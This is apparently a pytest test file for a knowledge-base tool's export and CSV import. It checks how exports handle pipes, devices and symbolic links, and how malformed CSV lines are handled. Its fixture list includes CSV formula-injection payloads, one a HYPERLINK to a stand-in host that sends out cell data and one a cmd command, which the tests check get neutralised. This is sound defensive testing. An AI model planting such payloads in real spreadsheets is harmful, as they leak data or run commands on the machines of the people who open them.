"""Hostile output paths and input files: exports never turn a pipe, a device or a symbolic link into a
regular file, spreadsheets never run a cell as a formula, and a broken CSV quote costs one line, not the
rows after it."""

from __future__ import annotations

import csv
import io
import os
import socket
import stat
import subprocess
import sys
import threading
from pathlib import Path

import pytest

from conftest import Cli
from kb_factory import build_small_kb
from llmkb.errors import LlmkbError, UsageError
from llmkb.export.atomic_write import atomic_output
from llmkb.export.csv_format import write_csv
from llmkb.store.papers_write import PaperFields, save_paper
from llmkb.store.write_session import write_session
from test_safety_support import one_line


@pytest.fixture
def kb(db_path) -> Cli:
    build_small_kb(db_path)
    return Cli(db_path)


def _csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


# --- export -o PATH -------------------------------------------------------------------------------------


class TestExportTargets:
    def test_named_pipe_is_written_through_not_replaced(self, kb, tmp_path):
        fifo = tmp_path / "papers.pipe"
        os.mkfifo(fifo)
        reader = os.open(fifo, os.O_RDONLY | os.O_NONBLOCK)  # a reader is there before the export starts
        os.set_blocking(reader, True)
        keep_open = os.open(fifo, os.O_WRONLY)  # so the reader sees no end of file before the export writes
        received = bytearray()

        def drain():
            while chunk := os.read(reader, 65536):
                received.extend(chunk)

        thread = threading.Thread(target=drain)
        thread.start()
        try:
            result = kb("export", "csv", "-o", str(fifo), "--force")
        finally:
            os.close(keep_open)
            thread.join(timeout=30)
            os.close(reader)
        assert result.exit_code == 0, result.stderr
        assert stat.S_ISFIFO(os.lstat(fifo).st_mode)
        rows = _csv_rows(received.decode("utf-8-sig"))
        assert rows[0][0] == "id" and len(rows) == 7
        assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".papers")) == []

    def test_named_pipe_without_a_reader_is_one_line_not_a_hang(self, kb, tmp_path):
        fifo = tmp_path / "papers.pipe"
        os.mkfifo(fifo)
        result = kb("export", "csv", "-o", str(fifo), "--force")
        assert result.exit_code == 2
        assert "nothing is reading" in one_line(result.stderr)
        assert stat.S_ISFIFO(os.lstat(fifo).st_mode)

    def test_dev_null_stays_a_device(self, kb):
        result = kb("export", "json", "-o", "/dev/null", "--force")
        assert result.exit_code == 0, result.stderr
        assert stat.S_ISCHR(os.stat("/dev/null").st_mode)

    @pytest.mark.skipif(not os.path.exists("/dev/full"), reason="no /dev/full here")
    def test_dev_full_is_one_line(self, kb):
        result = kb("export", "json", "-o", "/dev/full")
        assert result.exit_code == 1
        assert one_line(result.stderr) == "error: cannot write /dev/full: No space left on device"
        assert stat.S_ISCHR(os.stat("/dev/full").st_mode)

    def test_dev_stdout_writes_to_the_file_the_shell_opened(self, kb, db_path, tmp_path):
        out = tmp_path / "redirected.csv"
        out.write_text("")
        inode = out.stat().st_ino
        with open(out, "a") as stdout:
            proc = subprocess.run(
                [sys.executable, "-m", "llmkb", "--db", str(db_path), "export", "csv", "-o", "/dev/stdout"],
                stdout=stdout,
                stderr=subprocess.PIPE,
                text=True,
                check=False,
            )
        assert proc.returncode == 0, proc.stderr
        assert out.stat().st_ino == inode  # written, not replaced by a new file
        assert _csv_rows(out.read_text(encoding="utf-8-sig"))[0][0] == "id"
        piped = subprocess.run(
            [sys.executable, "-m", "llmkb", "--db", str(db_path), "export", "csv", "-o", "/dev/stdout"],
            capture_output=True,
            text=True,
            check=False,
        )
        assert piped.returncode == 0 and len(_csv_rows(piped.stdout.lstrip("\ufeff"))) == 7

    def test_dangling_symlink_needs_force_and_is_then_written_through(self, kb, tmp_path):
        link = tmp_path / "latest.md"
        link.symlink_to(tmp_path / "exports" / "2024.md")
        refused = kb("export", "md", "-o", str(link))
        assert refused.exit_code == 2
        assert "already exists (a symbolic link to a missing file)" in one_line(refused.stderr)
        assert link.is_symlink() and not (tmp_path / "exports").exists()
        (tmp_path / "exports").mkdir()
        assert kb("export", "md", "-o", str(link), "--force").exit_code == 0
        assert link.is_symlink() and (tmp_path / "exports" / "2024.md").read_text().startswith("# ")

    def test_symlink_to_a_file_replaces_the_file_and_keeps_the_link(self, kb, tmp_path):
        real = tmp_path / "real.bib"
        real.write_text("old")
        link = tmp_path / "papers.bib"
        link.symlink_to(real)
        assert kb("export", "bib", "-o", str(link)).exit_code == 2
        assert real.read_text() == "old"
        assert kb("export", "bib", "-o", str(link), "--force").exit_code == 0
        assert link.is_symlink() and "@" in real.read_text()

    def test_socket_and_block_device_are_refused(self, tmp_path):
        sock_path = tmp_path / "s.sock"
        server = socket.socket(socket.AF_UNIX)
        server.bind(str(sock_path))
        try:
            with pytest.raises(UsageError, match="it is a socket"), atomic_output(sock_path, force=True):
                pass
        finally:
            server.close()
        assert stat.S_ISSOCK(os.lstat(sock_path).st_mode)
        block = next((p for p in sorted(Path("/dev").glob("loop*")) if stat.S_ISBLK(os.stat(p).st_mode)), None)
        if block is not None:
            with pytest.raises(UsageError, match="it is a block device"), atomic_output(block, force=True):
                pass

    def test_a_file_appearing_during_a_new_export_is_not_overwritten(self, tmp_path):
        target = tmp_path / "new.csv"
        with pytest.raises(UsageError, match="already exists"), atomic_output(target, force=False) as out:
            out.write("ours")
            target.write_text("someone else's")
        assert target.read_text() == "someone else's"
        assert list(tmp_path.iterdir()) == [target]

    def test_write_errors_through_a_device_are_one_line(self):
        with pytest.raises(LlmkbError, match="cannot write /dev/null: boom"), atomic_output("/dev/null", force=False):
            raise OSError(5, "boom")


# --- CSV injection ------------------------------------------------------------------------------------

HOSTILE_TITLES = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\tTabbed",
    "\rReturned",
    "\uff1dFULLWIDTH",
]


class TestCsvInjection:
    def test_formula_cells_are_neutralised_and_raw_keeps_them(self):
        records = [{"id": f"kb-{n}", "title": title, "note": "=1+1"} for n, title in enumerate(HOSTILE_TITLES, 1)]
        safe, raw = io.StringIO(), io.StringIO()
        write_csv(records, safe)
        write_csv(records, raw, raw=True)
        safe_rows, raw_rows = _csv_rows(safe.getvalue())[1:], _csv_rows(raw.getvalue())[1:]
        assert [row[1] for row in safe_rows] == ["'" + title for title in HOSTILE_TITLES]
        assert {row[-1] for row in safe_rows} == {"'=1+1"}
        assert [row[1] for row in raw_rows] == HOSTILE_TITLES

    def test_harmless_cells_are_unchanged(self):
        out = io.StringIO()
        write_csv([{"id": "2403.03853", "title": "ShortGPT: a = b", "year": 2024, "tags": ["-x", "y"]}], out)
        row = _csv_rows(out.getvalue())[1]
        assert row[:4] == ["2403.03853", "ShortGPT: a = b", "", "2024"]

    def test_export_of_a_hostile_title(self, cli, db_path):
        with write_session(db_path) as session:
            save_paper(session, PaperFields(title='=HYPERLINK("http://x","y")'), source="user", authoritative=True)
        result = cli("export", "csv")
        assert result.exit_code == 0
        assert _csv_rows(result.stdout)[1][1] == '\'=HYPERLINK("http://x","y")'


# --- import-results ------------------------------------------------------------------------------------


class TestResultsCsv:
    def test_unbalanced_quote_is_that_lines_error_and_the_rows_after_it_are_kept(self, kb, db_path, tmp_path):
        source = tmp_path / "results.csv"
        source.write_text(
            "paper,model,dataset,metric,value,setting\n"
            "2403.03853,LLaMA-2-7B,PIQA,acc,66.4,0-shot\n"
            '2403.03853,LLaMA-2-7B,"WikiText2,PPL,18.45,\n'
            "2401.15024,OPT-13B,PIQA,acc,71.5,5-shot\n"
            '2210.17323,OPT-13B,PIQA,acc,70.1,"0-shot"\n'
        )
        result = kb("import-results", str(source))
        assert result.exit_code == 1
        errors = [line for line in result.stderr.splitlines() if line.startswith("error:")]
        assert errors == ['error: results.csv, line 3: a quoted field does not end on its line (a missing or extra ")']
        assert "results.csv: 4 rows — 3 added, 0 updated, 0 unchanged; 1 bad row skipped" in result.stdout

    def test_unbalanced_quote_in_the_header_is_one_line(self, kb, tmp_path):
        source = tmp_path / "results.csv"
        source.write_text('paper,"model,dataset,metric,value\n2403.03853,x,PIQA,acc,1\n')
        result = kb("import-results", str(source))
        assert result.exit_code == 1
        assert "line 1: the header line is not valid CSV" in one_line(result.stderr)

    def test_nul_byte_is_that_lines_error(self, kb, tmp_path):
        source = tmp_path / "results.csv"
        source.write_text("paper,dataset,metric,value\n2403.03853,PIQA,acc,66\x00.4\n2401.15024,PIQA,acc,71.5\n")
        result = kb("import-results", str(source))
        assert result.exit_code == 1
        errors = [line for line in result.stderr.splitlines() if line.startswith("error:")]
        assert len(errors) == 1 and errors[0].startswith("error: results.csv, line 2: ")
        assert "1 added" in result.stdout
